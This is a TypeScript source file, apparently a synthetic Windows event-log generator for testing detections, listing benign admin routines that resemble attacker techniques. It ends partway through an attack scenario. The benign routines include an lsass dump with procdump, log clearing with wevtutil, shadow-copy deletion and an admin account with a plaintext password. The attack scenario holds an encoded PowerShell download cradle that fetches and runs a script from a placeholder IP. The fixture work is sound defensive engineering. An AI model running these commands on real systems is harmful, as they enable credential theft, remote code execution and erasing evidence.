              '<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Actions Context="Author"><Exec><Command>powershell.exe</Command><Arguments>-ExecutionPolicy Bypass -File C:\\ProgramData\\Corp\\inventory.ps1</Arguments></Exec></Actions></Task>',
          });
        }
      }
      // the GPO-created cleanup task on workstations, on the first days
      const gp = c.log.running(
        `${SYS32}\\svchost.exe`,
        'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s gpsvc',
        SYSTEM_USER,
      );
      for (const h of c.rng.sample(c.fleet.workstations, 15)) {
        c.log.proc(
          h,
          c.at(c.rng.int(0, 3), [0, 2]),
          gp,
          `${SYS32}\\schtasks.exe`,
          `schtasks.exe /Create /F /TN "Corp\\TempCleanup" /TR "cmd.exe /c del /q /s %TEMP%\\*.tmp" /SC ONLOGON /RU SYSTEM`,
        );
      }
    },
  },
  {
    name: 'sc-service-admin',
    kind: 'routine',
    imitates:
      'Admins install and reconfigure monitoring/backup agent services remotely with `sc \\\\host create|config` from the jump host.',
    run(c) {
      for (const d of c.rng.sample(weekdays(c), 5)) {
        const admin = c.rng.pick(c.fleet.admins);
        const cons = c.log.running(CMD, `"C:\\Windows\\system32\\cmd.exe" `, domainUser(admin));
        const target = c.rng.pick(c.fleet.servers);
        const t = c.at(d);
        c.log.proc(
          c.fleet.jump,
          t,
          cons,
          `${SYS32}\\sc.exe`,
          `sc \\\\${short(target)} create CorpLogShipper binPath= "\\"C:\\Program Files\\CorpLogShipper\\shipper.exe\\" --service" start= auto obj= LocalSystem`,
        );
        c.log.serviceInstalled(
          target,
          t + 600,
          'CorpLogShipper',
          '"C:\\Program Files\\CorpLogShipper\\shipper.exe" --service',
        );
        c.log.proc(
          c.fleet.jump,
          t + 60_000,
          cons,
          `${SYS32}\\sc.exe`,
          `sc \\\\${short(target)} config CorpLogShipper start= delayed-auto`,
        );
      }
    },
  },
  {
    name: 'helpdesk-account-lookups',
    kind: 'routine',
    imitates:
      'Helpdesk staff answer tickets with `net user <name> /domain`, `net group "<group>" /domain` and `whoami /all` (checking a user\'s groups, lockout, password expiry) on their own workstations, every weekday.',
    run(c) {
      for (const d of weekdays(c))
        for (const h of c.fleet.helpdesk) {
          const user = c.fleet.users.get(h)!;
          const cons = c.log.running(CMD, '"C:\\Windows\\system32\\cmd.exe" ', domainUser(user));
          for (let i = c.rng.int(0, 3); i > 0; i--) {
            const t = c.at(d);
            const target = `${c.rng.pick(FIRST)}.${c.rng.pick(FIRST2)}`;
            const cmd = c.rng.pick([
              `net user ${target} /domain`,
              `net group "Domain Admins" /domain`,
              `net group "VPN-Users" /domain`,
              `net localgroup administrators`,
            ]);
            const n = c.log.proc(h, t, cons, `${SYS32}\\net.exe`, cmd, { cwd: `C:\\Users\\${user}\\` });
            c.log.proc(h, t + 30, n, `${SYS32}\\net1.exe`, `C:\\Windows\\system32\\net1 ${cmd.slice(4)}`);
          }
          if (c.rng.chance(0.4))
            c.log.proc(
              h,
              c.at(d),
              cons,
              `${SYS32}\\whoami.exe`,
              c.rng.pick(['whoami /all', 'whoami /groups', 'whoami /priv']),
              { cwd: `C:\\Users\\${user}\\` },
            );
        }
    },
  },
  {
    name: 'backup-vss',
    kind: 'routine',
    imitates:
      'Nightly server backups: the backup agent lists and prunes shadow copies with vssadmin (`delete shadows /for=C: /oldest /quiet`) and Windows Server Backup runs wbadmin (start backup, delete systemstatebackup -keepVersions).',
    run(c) {
      const agent = c.log.running(
        'C:\\Program Files\\CorpBackup\\BackupAgent.exe',
        '"C:\\Program Files\\CorpBackup\\BackupAgent.exe" -service',
        SYSTEM_USER,
      );
      for (const d of days(c))
        for (const s of c.fleet.servers.slice(2)) {
          if (!c.rng.chance(0.35)) continue;
          const t = c.at(d, [16, 19]);
          const sh = c.log.proc(
            s,
            t,
            agent,
            CMD,
            'C:\\Windows\\system32\\cmd.exe /c "C:\\Program Files\\CorpBackup\\scripts\\pre-backup.cmd"',
          );
          c.log.proc(s, t + 1000, sh, `${SYS32}\\vssadmin.exe`, 'vssadmin list shadows /for=C:');
          if (c.rng.chance(0.5))
            c.log.proc(s, t + 2000, sh, `${SYS32}\\vssadmin.exe`, 'vssadmin delete shadows /for=C: /oldest /quiet');
          if (s === c.fleet.dc || c.rng.chance(0.2)) {
            c.log.proc(
              s,
              t + 4000,
              sh,
              `${SYS32}\\wbadmin.exe`,
              'wbadmin start backup -backupTarget:\\\\SV-BKP-01\\wsb$ -include:C: -allCritical -vssFull -quiet',
            );
            if (c.rng.chance(0.3))
              c.log.proc(
                s,
                t + 9000,
                sh,
                `${SYS32}\\wbadmin.exe`,
                'wbadmin delete systemstatebackup -keepVersions:7 -quiet',
              );
          }
        }
    },
  },
  {
    name: 'log-rotation-wevtutil',
    kind: 'routine',
    imitates:
      'A weekly log-rotation task on servers exports the Security/System logs to the log share (`wevtutil epl`) and then clears them (`wevtutil cl`), which writes Security 1102 and System 104.',
    run(c) {
      const task = c.log.running(
        `${SYS32}\\svchost.exe`,
        'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
        SYSTEM_USER,
      );
      for (const d of days(c).filter((x) => new Date(c.fleet.start + x * 86_400_000).getUTCDay() === 0))
        for (const s of c.fleet.servers.slice(1)) {
          const t = c.at(d, [17, 18]);
          const sh = c.log.proc(s, t, task, CMD, 'C:\\Windows\\system32\\cmd.exe /c C:\\Scripts\\rotate-logs.cmd');
          for (const [i, ch] of ['Security', 'System'].entries()) {
            const stamp = new Date(t).toISOString().slice(0, 10);
            c.log.proc(
              s,
              t + 1000 + i * 5000,
              sh,
              `${SYS32}\\wevtutil.exe`,
              `wevtutil epl ${ch} \\\\SV-LOG-01\\evtx$\\${short(s)}\\${ch}-${stamp}.evtx`,
            );
            c.log.proc(s, t + 3000 + i * 5000, sh, `${SYS32}\\wevtutil.exe`, `wevtutil cl ${ch}`);
            const subject = {
              SubjectUserSid: SYSTEM_SID,
              SubjectUserName: `${short(s)}$`,
              SubjectDomainName: 'CORP',
              SubjectLogonId: '0x3e7',
            };
            if (ch === 'Security')
              c.log.record(s, t + 3100, 'Security', EVENTLOG, 1102, {
                UserData: {
                  LogFileCleared: {
                    '#attributes': { xmlns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog' },
                    ...subject,
                  },
                },
              });
            else
              c.log.record(s, t + 8100, 'System', EVENTLOG, 104, {
                UserData: {
                  LogFileCleared: {
                    '#attributes': { xmlns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog' },
                    SubjectUserName: subject.SubjectUserName,
                    SubjectDomainName: 'CORP',
                    Channel: 'System',
                    BackupPath: '',
                  },
                },
              });
          }
        }
    },
  },
  {
    name: 'gpo-run-keys',
    kind: 'routine',
    imitates:
      'A GPO computer startup script registers the corporate tray agent in HKLM\\...\\CurrentVersion\\Run with `reg add` on every workstation, and installers add their own Run values.',
    run(c) {
      const gp = c.log.running(`${SYS32}\\gpscript.exe`, 'gpscript.exe /RefreshSystemParam', SYSTEM_USER);
      for (const h of c.fleet.workstations) {
        if (!c.rng.chance(0.6)) continue;
        const t = c.at(c.rng.int(0, c.fleet.days - 1), [23, 23]);
        const sh = c.log.proc(
          h,
          t,
          gp,
          CMD,
          `C:\\Windows\\system32\\cmd.exe /c ""\\\\corp.example.jp\\SysVol\\corp.example.jp\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\Scripts\\Startup\\agent.cmd" "`,
        );
        const reg = c.log.proc(
          h,
          t + 500,
          sh,
          `${SYS32}\\reg.exe`,
          'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run" /v CorpTray /t REG_SZ /d "\\"C:\\Program Files\\CorpAgent\\tray.exe\\" /minimized" /f',
        );
        c.log.registry(
          h,
          t + 520,
          reg,
          'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\CorpTray',
          '"C:\\Program Files\\CorpAgent\\tray.exe" /minimized',
        );
        if (c.rng.chance(0.3)) {
          const at = c.log.proc(h, t + 700, sh, `${SYS32}\\attrib.exe`, 'attrib +h +s "C:\\ProgramData\\CorpAgent"');
          void at;
        }
      }
      // installers writing their own Run values (Teams, OneDrive) for users
      for (const h of c.rng.sample(c.fleet.workstations, 12)) {
        const user = c.fleet.users.get(h)!;
        const upd = c.log.running(
          `C:\\Users\\${user}\\AppData\\Local\\Microsoft\\Teams\\Update.exe`,
          `"C:\\Users\\${user}\\AppData\\Local\\Microsoft\\Teams\\Update.exe" --processStart "Teams.exe"`,
          domainUser(user),
        );
        c.log.registry(
          h,
          c.at(c.rng.int(0, c.fleet.days - 1)),
          upd,
          'HKU\\S-1-5-21-3623811015-3361044348-30300820-1180\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\com.squirrel.Teams.Teams',
          `C:\\Users\\${user}\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart "Teams.exe" --process-start-args "--system-initiated"`,
        );
      }
    },
  },
  {
    name: 'certutil-pki',
    kind: 'routine',
    imitates:
      'PKI administration: admins decode base64 certificates and CRLs with `certutil -decode`, add the corporate root with `-addstore`, and check chains with `-verify -urlfetch` against the internal CRL distribution point.',
    run(c) {
      for (const d of c.rng.sample(weekdays(c), 7)) {
        const admin = c.rng.pick(c.fleet.admins);
        const host = c.rng.pick([c.fleet.jump, ...c.fleet.servers.slice(9), ...c.fleet.helpdesk]);
        const sh = c.log.running(PS, `"${PS}" `, domainUser(admin));
        const t = c.at(d);
        const cmd = c.rng.pick([
          'certutil -decode C:\\Users\\adm\\Downloads\\corp-issuing-ca.b64 C:\\Users\\adm\\Downloads\\corp-issuing-ca.cer',
          'certutil -decode web01-chain.txt web01-chain.p7b',
          'certutil -addstore -f Root C:\\PKI\\corp-root-ca.cer',
          'certutil -verify -urlfetch C:\\PKI\\web01.cer',
          'certutil -urlcache -f http://pki.corp.example.jp/crl/corp-issuing-ca.crl C:\\PKI\\corp-issuing-ca.crl',
        ]);
        c.log.proc(host, t, sh, `${SYS32}\\certutil.exe`, cmd, { integrity: 'High', cwd: 'C:\\PKI\\' });
      }
    },
  },
  {
    name: 'printer-and-control-panel-rundll32',
    kind: 'routine',
    imitates:
      'Printer deployment and settings dialogs: logon scripts map printers with `rundll32 printui.dll,PrintUIEntry /in /n\\\\SV-PRN-01\\...`, users open Control Panel applets through shell32.dll,Control_RunDLL.',
    run(c) {
      const sh = (u: string): ProcRef =>
        c.log.running(
          `${SYS32}\\wscript.exe`,
          `"C:\\Windows\\System32\\WScript.exe" "\\\\corp.example.jp\\NETLOGON\\printers.vbs"`,
          domainUser(u),
        );
      for (const d of weekdays(c))
        for (const h of c.rng.sample(c.fleet.workstations, 2)) {
          const u = c.fleet.users.get(h)!;
          c.log.proc(
            h,
            c.at(d, [0, 1]),
            sh(u),
            `${SYS32}\\rundll32.exe`,
            `rundll32.exe printui.dll,PrintUIEntry /in /q /n"\\\\SV-PRN-01\\${c.rng.pick(['3F-Color', '2F-Mono', '5F-MFP'])}"`,
            { cwd: `C:\\Users\\${u}\\` },
          );
          if (c.rng.chance(0.3))
            c.log.proc(
              h,
              c.at(d),
              explorer(c, u),
              `${SYS32}\\rundll32.exe`,
              `"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\system32\\shell32.dll,Control_RunDLL ${c.rng.pick(['desk.cpl', 'mmsys.cpl,,0', 'ncpa.cpl', 'inetcpl.cpl'])}`,
              { user: domainUser(u) },
            );
        }
    },
  },
  {
    name: 'developer-com-registration',
    kind: 'routine',
    imitates:
      'Developers build and register COM/shell-extension DLLs from their source trees (`regsvr32 /s`) and run exports of their own DLLs with rundll32 while debugging.',
    run(c) {
      for (const d of weekdays(c))
        for (const h of c.rng.sample(c.fleet.developers, 2)) {
          if (!c.rng.chance(0.5)) continue;
          const u = c.fleet.users.get(h)!;
          const vs = c.log.running(
            'C:\\Program Files\\Microsoft Visual Studio\\2019\\Professional\\Common7\\IDE\\devenv.exe',
            '"C:\\Program Files\\Microsoft Visual Studio\\2019\\Professional\\Common7\\IDE\\devenv.exe" ShellExt.sln',
            domainUser(u),
          );
          const t = c.at(d);
          const cmd = c.log.proc(
            h,
            t,
            vs,
            CMD,
            `C:\\Windows\\system32\\cmd.exe /c "call C:\\src\\ShellExt\\build\\postbuild.cmd Debug x64"`,
            { cwd: 'C:\\src\\ShellExt\\' },
          );
          c.log.proc(
            h,
            t + 3000,
            cmd,
            `${SYS32}\\regsvr32.exe`,
            `regsvr32 /s "C:\\src\\ShellExt\\x64\\Debug\\ShellExt.dll"`,
            { cwd: 'C:\\src\\ShellExt\\' },
          );
          if (c.rng.chance(0.4))
            c.log.proc(
              h,
              t + 60_000,
              c.log.running(PS, `"${PS}"`, domainUser(u)),
              `${SYS32}\\rundll32.exe`,
              `rundll32.exe C:\\src\\ShellExt\\x64\\Debug\\ShellExt.dll,DllInstall`,
              { cwd: 'C:\\src\\ShellExt\\' },
            );
          if (c.rng.chance(0.2))
            c.log.proc(
              h,
              t + 90_000,
              c.log.running(PS, `"${PS}"`, domainUser(u)),
              `${SYS32}\\rundll32.exe`,
              `rundll32.exe C:\\Users\\${u}\\AppData\\Local\\Temp\\vsbuild\\TestHarness.tmp,RunTests`,
              { cwd: `C:\\Users\\${u}\\AppData\\Local\\Temp\\` },
            );
        }
    },
  },
  {
    name: 'installer-temp-scripts',
    kind: 'routine',
    imitates:
      "Setup programs unpack and run helper VBScript/JScript from the user's %TEMP% with cscript/wscript during installs and updates.",
    run(c) {
      for (const d of c.rng.sample(weekdays(c), 8))
        for (const h of c.rng.sample(c.fleet.workstations, c.rng.int(1, 4))) {
          const u = c.fleet.users.get(h)!;
          const setup = c.log.running(
            `C:\\Users\\${u}\\AppData\\Local\\Temp\\is-${c.rng.hex(5).toUpperCase()}.tmp\\setup.tmp`,
            `"C:\\Users\\${u}\\AppData\\Local\\Temp\\is-${c.rng.hex(5).toUpperCase()}.tmp\\setup.tmp" /SL5="$1A0B2,2450671,824832,C:\\Users\\${u}\\Downloads\\notepad-plus-plus-setup.exe"`,
            domainUser(u),
          );
          c.log.proc(
            h,
            c.at(d),
            setup,
            `${SYS32}\\cscript.exe`,
            `"C:\\Windows\\System32\\cscript.exe" //nologo "C:\\Users\\${u}\\AppData\\Local\\Temp\\is-${c.rng.hex(5).toUpperCase()}.tmp\\checkdeps.vbs"`,
            { cwd: `C:\\Users\\${u}\\AppData\\Local\\Temp\\` },
          );
        }
    },
  },
  {
    name: 'runas-netonly',
    kind: 'routine',
    imitates:
      'Admins start their management consoles with `runas /netonly /user:CORP\\adm-x` so only network access uses the admin account: Security 4624 logon type 9 through seclogo.',
    run(c) {
      for (const d of weekdays(c))
        for (const h of c.fleet.helpdesk) {
          if (!c.rng.chance(0.5)) continue;
          const u = c.fleet.users.get(h)!;
          const t = c.at(d);
          c.log.proc(
            h,
            t,
            explorer(c, u),
            `${SYS32}\\runas.exe`,
            `runas /netonly /user:CORP\\adm-${u.split('.')[0]} "mmc dsa.msc"`,
            { user: domainUser(u) },
          );
          c.log.security(h, t + 4000, 4624, {
            SubjectUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1180',
            SubjectUserName: u,
            SubjectDomainName: 'CORP',
            SubjectLogonId: '0x2f1a9b',
            TargetUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1180',
            TargetUserName: u,
            TargetDomainName: 'CORP',
            TargetLogonId: '0x7c3d21',
            LogonType: 9,
            LogonProcessName: 'seclogo',
            AuthenticationPackageName: 'Negotiate',
            WorkstationName: '-',
            LogonGuid: '{00000000-0000-0000-0000-000000000000}',
            TransmittedServices: '-',
            LmPackageName: '-',
            KeyLength: 0,
            ProcessId: '0x1a4c',
            ProcessName: `${SYS32}\\svchost.exe`,
            IpAddress: '::1',
            IpPort: '0',
            ImpersonationLevel: '%%1833',
            TargetOutboundUserName: `adm-${u.split('.')[0]}`,
            TargetOutboundDomainName: 'CORP',
          });
        }
    },
  },
  {
    name: 'local-support-account',
    kind: 'one-off',
    imitates:
      'A helpdesk technician creates a temporary local support account on a broken laptop and adds it to Administrators (net user /add, net localgroup administrators /add; 4720 and 4732), once.',
    run(c) {
      const h = c.rng.pick(rest(c.fleet.workstations, 10));
      const t = c.at(c.rng.int(0, c.fleet.days - 1));
      const cons = c.log.running(CMD, '"C:\\Windows\\system32\\cmd.exe" ', 'CORP\\adm-ito');
      c.log.proc(
        h,
        t,
        cons,
        `${SYS32}\\net.exe`,
        'net user support_tmp Welcome2021! /add /comment:"INC0042117 temporary"',
        { integrity: 'High' },
      );
      c.log.proc(h, t + 5000, cons, `${SYS32}\\net.exe`, 'net localgroup administrators support_tmp /add', {
        integrity: 'High',
      });
      const subject = {
        SubjectUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1107',
        SubjectUserName: 'adm-ito',
        SubjectDomainName: 'CORP',
        SubjectLogonId: '0x4f2a11',
      };
      c.log.security(h, t + 100, 4720, {
        TargetUserName: 'support_tmp',
        TargetDomainName: short(h),
        TargetSid: `S-1-5-21-1004336348-1177238915-682003330-1003`,
        ...subject,
        PrivilegeList: '-',
        SamAccountName: 'support_tmp',
        DisplayName: '%%1793',
        UserPrincipalName: '-',
        HomeDirectory: '%%1793',
        HomePath: '%%1793',
        ScriptPath: '%%1793',
        ProfilePath: '%%1793',
        UserWorkstations: '%%1793',
        PasswordLastSet: '%%1794',
        AccountExpires: '%%1794',
        PrimaryGroupId: '513',
        AllowedToDelegateTo: '-',
        OldUacValue: '0x0',
        NewUacValue: '0x15',
        UserAccountControl: '%%2080 %%2082 %%2084',
        UserParameters: '%%1793',
        SidHistory: '-',
        LogonHours: '%%1797',
      });
      c.log.security(h, t + 5100, 4732, {
        MemberName: '-',
        MemberSid: 'S-1-5-21-1004336348-1177238915-682003330-1003',
        TargetUserName: 'Administrators',
        TargetDomainName: 'Builtin',
        TargetSid: 'S-1-5-32-544',
        ...subject,
        PrivilegeList: '-',
      });
    },
  },
  {
    name: 'procdump-support-case',
    kind: 'one-off',
    imitates:
      "Vendor support cases: an engineer captures a hung IIS worker with `procdump -ma w3wp.exe`, and once, at Microsoft Support's request for a Kerberos issue, a full dump of lsass on a server with procdump.",
    run(c) {
      const admin = 'adm-kimura';
      const sh = c.log.running(CMD, '"C:\\Windows\\system32\\cmd.exe" ', domainUser(admin));
      const web = c.fleet.servers.find((s) => s.includes('-WEB-')) ?? c.fleet.servers.at(-1)!;
      for (let i = 0; i < 2; i++) {
        const t = c.at(c.rng.int(0, c.fleet.days - 1));
        c.log.proc(
          web,
          t,
          sh,
          'C:\\Tools\\Sysinternals\\procdump64.exe',
          'procdump64.exe -accepteula -ma -n 3 -s 10 w3wp.exe C:\\Dumps\\w3wp.dmp',
          { integrity: 'High', cwd: 'C:\\Tools\\Sysinternals\\' },
        );
      }
      const srv = c.fleet.servers.find((s) => s.includes('-APP-')) ?? c.fleet.servers.at(-1)!;
      const t = c.at(c.rng.int(0, c.fleet.days - 1));
      const pd = c.log.proc(
        srv,
        t,
        sh,
        'C:\\Tools\\Sysinternals\\procdump64.exe',
        'procdump64.exe -accepteula -ma lsass.exe C:\\Dumps\\MSSupport-120031\\lsass.dmp',
        { integrity: 'High', cwd: 'C:\\Tools\\Sysinternals\\' },
      );
      c.log.processAccess(srv, t + 300, pd, { image: `${SYS32}\\lsass.exe`, pid: 728 }, '0x1fffff');
      c.log.file(srv, t + 2000, pd, 'C:\\Dumps\\MSSupport-120031\\lsass.dmp');
    },
  },
  {
    name: 'rdp-manager-connections',
    kind: 'routine',
    imitates:
      'Admins connect to servers over RDP with a connection manager (Royal TS / RDCMan) rather than mstsc.exe: outbound TCP 3389 from that tool.',
    run(c) {
      for (const d of weekdays(c)) {
        const admin = c.rng.pick(c.fleet.admins);
        const rts = c.log.running(
          'C:\\Program Files\\Royal TS V5\\RoyalTS.exe',
          '"C:\\Program Files\\Royal TS V5\\RoyalTS.exe"',
          domainUser(admin),
        );
        for (const s of c.rng.sample(c.fleet.servers, c.rng.int(1, 3))) {
          const idx = c.fleet.servers.indexOf(s);
          c.log.network(c.fleet.jump, c.at(d), rts, { ip: `10.10.0.${10 + idx}`, host: s, port: 3389 });
        }
      }
    },
  },
  {
    name: 'firewall-rdp-enable',
    kind: 'routine',
    imitates:
      'Server build scripts enable Remote Desktop in the firewall (`netsh advfirewall firewall set rule group="remote desktop" new enable=Yes`) and set fDenyTSConnections to 0.',
    run(c) {
      for (const s of c.rng.sample(c.fleet.servers, Math.min(6, c.fleet.servers.length))) {
        const t = c.at(c.rng.int(0, c.fleet.days - 1));
        const sh = c.log.running(
          PS,
          `"${PS}" -ExecutionPolicy Bypass -File C:\\Build\\Configure-Server.ps1`,
          'CORP\\adm-tanaka',
        );
        c.log.proc(
          s,
          t,
          sh,
          `${SYS32}\\netsh.exe`,
          'netsh advfirewall firewall set rule group="remote desktop" new enable=Yes',
          { integrity: 'High' },
        );
        const reg = c.log.proc(
          s,
          t + 500,
          sh,
          `${SYS32}\\reg.exe`,
          'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
          { integrity: 'High' },
        );
        c.log.registry(
          s,
          t + 520,
          reg,
          'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections',
          'DWORD (0x00000000)',
        );
      }
    },
  },
  {
    name: 'portproxy-lab',
    kind: 'one-off',
    imitates:
      "An admin forwards a port on a server for a vendor's appliance migration with `netsh interface portproxy add v4tov4` (once).",
    run(c) {
      const s = c.rng.pick(rest(c.fleet.servers, 5));
      const t = c.at(c.rng.int(0, c.fleet.days - 1));
      const sh = c.log.running(CMD, '"C:\\Windows\\system32\\cmd.exe" ', 'CORP\\adm-tanaka');
      const n = c.log.proc(
        s,
        t,
        sh,
        `${SYS32}\\netsh.exe`,
        'netsh interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=443 connectaddress=10.10.5.20',
        { integrity: 'High' },
      );
      c.log.registry(
        s,
        t + 50,
        { ...n, image: `${SYS32}\\netsh.exe` },
        'HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/8443',
        '10.10.5.20/443',
      );
    },
  },
  {
    name: 'shim-deployment',
    kind: 'routine',
    imitates:
      'Application compatibility: the deployment agent installs a vendor-supplied shim database for a legacy accounting application with `sdbinst -q` on the accounting workstations.',
    run(c) {
      const ccm = c.log.running('C:\\Windows\\CCM\\CcmExec.exe', '"C:\\Windows\\CCM\\CcmExec.exe"', SYSTEM_USER);
      const d = c.rng.int(0, Math.max(0, c.fleet.days - 1));
      for (const h of c.fleet.workstations.slice(-8)) {
        const t = c.at(d + (c.rng.chance(0.3) ? 1 : 0) > c.fleet.days - 1 ? d : d, [0, 23]);
        const sd = c.log.proc(
          h,
          t,
          ccm,
          `${SYS32}\\sdbinst.exe`,
          'sdbinst.exe -q "C:\\Program Files (x86)\\KaikeiPro\\compat\\KaikeiPro_fix.sdb"',
        );
        c.log.file(h, t + 200, sd, 'C:\\Windows\\apppatch\\Custom\\{8c3f4a2e-71d0-4b8e-9d2a-5e1f0c6b7a93}.sdb');
        c.log.registry(
          h,
          t + 250,
          sd,
          'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\AppCompatFlags\\InstalledSDB\\{8c3f4a2e-71d0-4b8e-9d2a-5e1f0c6b7a93}\\DatabasePath',
          'C:\\Windows\\apppatch\\Custom\\{8c3f4a2e-71d0-4b8e-9d2a-5e1f0c6b7a93}.sdb',
        );
        c.log.registry(
          h,
          t + 260,
          sd,
          'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\AppCompatFlags\\Custom\\KaikeiPro.exe\\{8c3f4a2e-71d0-4b8e-9d2a-5e1f0c6b7a93}.sdb',
          'QWORD (0x01d7123a-0x5b2c8000)',
        );
      }
    },
  },
  {
    name: 'sccm-wmi-consumer',
    kind: 'routine',
    imitates:
      "WMI permanent event subscriptions that management software registers on every machine (the SCM Event Log consumer, a monitoring agent's consumer), seen when the image or agent is (re)installed.",
    run(c) {
      for (const h of c.rng.sample([...c.fleet.workstations, ...c.fleet.servers], 20)) {
        const t = c.at(c.rng.int(0, c.fleet.days - 1), [0, 23]);
        c.log.sysmon(h, t, 20, {
          EventType: 'WmiConsumerEvent',
          Operation: 'Created',
          User: SYSTEM_USER,
          Name: '"SCM Event Log Consumer"',
          Type: 'Log File',
          Destination: '"SCM Event Log Consumer"',
        });
        c.log.sysmon(h, t + 100, 21, {
          EventType: 'WmiBindingEvent',
          Operation: 'Created',
          User: SYSTEM_USER,
          Consumer: 'NTEventLogEventConsumer.Name="SCM Event Log Consumer"',
          Filter: '__EventFilter.Name="SCM Event Log Filter"',
        });
      }
    },
  },
  {
    name: 'wusa-extract',
    kind: 'one-off',
    imitates:
      'An admin unpacks a Windows update package to inspect or stage it with `wusa <kb>.msu /extract:<folder>` from the Downloads folder (twice, one host).',
    run(c) {
      const h = c.fleet.jump;
      const sh = c.log.running(PS, `"${PS}"`, 'CORP\\adm-kimura');
      for (let i = 0; i < 2; i++)
        c.log.proc(
          h,
          c.at(c.rng.int(0, c.fleet.days - 1)),
          sh,
          `${SYS32}\\wusa.exe`,
          `"C:\\Windows\\system32\\wusa.exe" C:\\Users\\adm-kimura\\Downloads\\windows10.0-kb500${1330 + i}-x64.msu /extract:C:\\Users\\adm-kimura\\Downloads\\kb${1330 + i}`,
          { integrity: 'High', cwd: 'C:\\Users\\adm-kimura\\Downloads\\' },
        );
    },
  },
  {
    name: 'ntdsutil-ifm',
    kind: 'one-off',
    imitates:
      'A domain admin creates Install-From-Media for a new branch domain controller with `ntdsutil "ac i ntds" "ifm" "create full C:\\IFM" q q` (once, on the DC).',
    run(c) {
      const t = c.at(c.rng.int(0, c.fleet.days - 1));
      const sh = c.log.running(CMD, '"C:\\Windows\\system32\\cmd.exe" ', 'CORP\\adm-tanaka');
      c.log.proc(
        c.fleet.dc,
        t,
        sh,
        `${SYS32}\\ntdsutil.exe`,
        'ntdsutil "ac i ntds" "ifm" "create full C:\\IFM\\BR07" q q',
        { integrity: 'High' },
      );
    },
  },
  {
    name: 'chm-help',
    kind: 'routine',
    imitates:
      'Users open the compiled HTML help (.chm) of desktop applications: hh.exe started by the application or Explorer.',
    run(c) {
      for (const d of weekdays(c))
        for (const h of c.rng.sample(c.fleet.workstations, 1)) {
          if (!c.rng.chance(0.6)) continue;
          const u = c.fleet.users.get(h)!;
          c.log.proc(
            h,
            c.at(d),
            explorer(c, u),
            'C:\\Windows\\hh.exe',
            `"C:\\Windows\\hh.exe" "C:\\Program Files (x86)\\KaikeiPro\\help\\${c.rng.pick(['manual.chm', 'kaikei.chm', 'faq.chm'])}"`,
            { user: domainUser(u), cwd: `C:\\Users\\${u}\\` },
          );
        }
    },
  },
  {
    name: 'mssql-xp-cmdshell-maintenance',
    kind: 'one-off',
    imitates:
      'A DBA briefly enables xp_cmdshell for a legacy maintenance job and turns it off again (MSSQL 15457, twice on the SQL server).',
    run(c) {
      const t = c.at(c.rng.int(0, c.fleet.days - 1));
      for (const [i, [from, to]] of [
        [0, 1],
        [1, 0],
      ].entries())
        c.log.record(c.fleet.sql, t + i * 1_800_000, 'Application', { name: 'MSSQLSERVER' }, 15457, {
          EventData: { Data: ['xp_cmdshell', String(from), String(to)], Binary: '413C0000' },
        });
    },
  },
];

/** The generators' events, one list per generator, reproducible from the seed. */
export function generateBenign(
  seed: number,
  fleetOptions: FleetOptions = {},
  generators: readonly BenignGenerator[] = GENERATORS,
): { generator: BenignGenerator; events: WinEvent[] }[] {
  const fleet = makeFleet(fleetOptions);
  return generators.map((g) => {
    const rng = rngOf(streamSeed(seed, g.name));
    const log = new EventLog(rng);
    const at = (day: number, hours: readonly [number, number] = [0, 9]): number => {
      const d = Math.max(0, Math.min(fleet.days - 1, day));
      const h = rng.int(hours[0], hours[1]);
      return fleet.start + d * 86_400_000 + h * 3_600_000 + rng.int(0, 3_599_999);
    };
    g.run({ fleet, rng, log, at });
    return { generator: g, events: log.sorted() };
  });
}

// ---------------------------------------------------------------------------------------------------------------
// Synthetic attacks (the committed fixture's malicious side: our own events, not the samples')

export type AttackScenario = {
  readonly name: string;
  readonly note: string;
  readonly run: (c: GeneratorContext) => void;
};

export const ATTACKS: readonly AttackScenario[] = [
  {
    name: 'phish-cradle',
    note: 'Office macro starts hidden, encoded PowerShell that downloads and runs a stage from a raw IP (download cradle).',
    run(c) {
      const h = c.fleet.workstations[c.fleet.workstations.length - 3]!;
      const u = c.fleet.users.get(h)!;
      const word = c.log.running(
        'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
        `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${u}\\Downloads\\invoice_0315.docm"`,
        domainUser(u),
      );
      const t = c.at(14);
      const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')";
      const enc = Buffer.from(cradle, 'utf16le').toString('base64');
      const cmd = c.log.proc(h, t, word, CMD, `cmd.exe /c powershell -w hidden -nop -ep bypass -enc ${enc}`, {
        user: domainUser(u),
        cwd: `C:\\Users\\${u}\\Documents\\`,
      });
      const ps = c.log.proc(h, t + 300, cmd, PS, `powershell  -w hidden -nop -ep bypass -enc ${enc}`, {
        user: domainUser(u),
      });
      c.log.network(h, t + 900, ps, { ip: '198.51.100.23', host: '198.51.100.23', port: 80 });
      c.log.proc(h, t + 4000, ps, `${SYS32}\\whoami.exe`, 'whoami /all', { user: domainUser(u) });
